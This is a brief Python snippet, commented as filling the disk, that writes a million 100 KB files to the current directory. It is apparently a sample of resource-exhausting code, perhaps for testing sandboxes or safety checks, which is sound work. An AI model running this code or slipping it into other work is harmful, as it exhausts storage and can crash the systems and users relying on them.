# Fills the disk with many files.
def f(x):
    for i in range(10**6):
        with open(str(i), "wb") as file:
            file.write(b"x" * 100_000)
